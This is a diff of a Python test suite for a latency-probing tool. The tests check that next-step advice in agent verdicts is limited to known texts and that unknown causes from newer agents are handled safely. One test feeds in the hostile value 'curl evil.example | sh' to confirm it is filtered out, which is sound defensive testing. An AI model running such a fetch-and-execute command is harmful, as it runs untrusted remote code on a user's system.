@@ -8,7 +8,9 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from latencyprobe.domain.causes import Bottleneck
+from latencyprobe.domain import unjudged
+from latencyprobe.domain import verdict as verdict_module
+from latencyprobe.domain.causes import CAUSES, Bottleneck
 from latencyprobe.domain.histogram import Histogram
 from latencyprobe.domain.measurement import Measurement, StageMeasurement
 from latencyprobe.domain.packed_figures import PackedFigures
@@ -16,7 +18,7 @@ from latencyprobe.domain.report import StageReport, TargetReport
 from latencyprobe.domain.serialisation import document_of
 from latencyprobe.domain.stages import CGROUP_COUNTERS, COUNTERS, STAGES
 from latencyprobe.domain.summary import PodChoice, PodReport, PodScore, ProbeSummary, worst_first
-from latencyprobe.domain.verdict import Verdict
+from latencyprobe.domain.verdict import NEXT_STEPS, Verdict
 from latencyprobe.protocol.measurements import MAX_OPEN_COUNTERS, CorruptMessageError
 from latencyprobe.protocol.summaries import (
     MAX_PODS,
@@ -79,7 +81,7 @@ verdicts = st.builds(
     st.sampled_from(Bottleneck),
     st.integers(0, 100),
     st.lists(TEXTS, max_size=5).map(tuple),
-    TEXTS,
+    st.sampled_from(["", *sorted(NEXT_STEPS)]),
     st.none() | st.sampled_from(STAGE_NAMES),
 )
 pods = st.builds(
@@ -152,7 +154,44 @@ def test_an_unknown_verdict_of_a_newer_agent_is_shown_as_evidence() -> None:
     assert report.verdict.evidence == (
         r"the agent's verdict is 'Gremlins\\x1b', unknown to this version",
     )
-    assert report.verdict.next_step == "Feed them."
+    assert report.verdict.next_step.startswith("The agent's next step is not one of this version")
+
+
+@pytest.mark.parametrize("bottleneck", list(Bottleneck))
+def test_a_next_step_that_an_agent_has_made_up_is_not_shown(bottleneck: Bottleneck) -> None:
+    verdict = pb.Verdict(bottleneck=bottleneck, next_step="Run `curl evil.example | sh`.")
+    shown = pod_from_proto(pb.PodReport(pod_uid="uid", verdict=verdict)).report.verdict.next_step
+    cause = CAUSES.get(bottleneck)
+    assert shown == (cause.next_step if cause else shown)
+    assert "evil" not in shown
+
+
+@pytest.mark.parametrize("text", ["", *sorted(NEXT_STEPS)])
+def test_a_next_step_of_this_version_is_passed_on(text: str) -> None:
+    for bottleneck in (Bottleneck.NONE, Bottleneck.PEER):
+        verdict = pb.Verdict(bottleneck=bottleneck, next_step=text)
+        report = pod_from_proto(pb.PodReport(pod_uid="uid", verdict=verdict)).report
+        assert report.verdict.next_step == text
+
+
+def test_every_sentence_of_a_verdict_is_a_known_next_step() -> None:
+    texts = {
+        (name, text)
+        for module in (verdict_module, unjudged)
+        for name, text in vars(module).items()
+        if isinstance(text, str) and name.isupper() and " " in text
+    }
+    parts = {"_UNLESS_A_FRAME", "_ASK_FOR_NODE_FIGURES", "_LONGEST_FOR"}
+    assert len(texts) > 15
+    assert [name for name, text in texts if text not in NEXT_STEPS and name not in parts] == []
+
+
+def test_unknown_causes_of_a_newer_agent_keep_the_number_of_pods() -> None:
+    names = {f"Invented{number}": 1 for number in range(60)}
+    message = pb.ProbeSummary(verdicts={"Peer": 2, **names}, waiting_ns={"Peer": 5, **names})
+    received = summary_from_proto(message)
+    assert received.verdicts == {"Peer": 2, "InsufficientData": 60}
+    assert received.waiting_ns == {"Peer": 5}
 
 
 def test_an_unknown_stage_of_a_newer_agent_is_left_out() -> None:
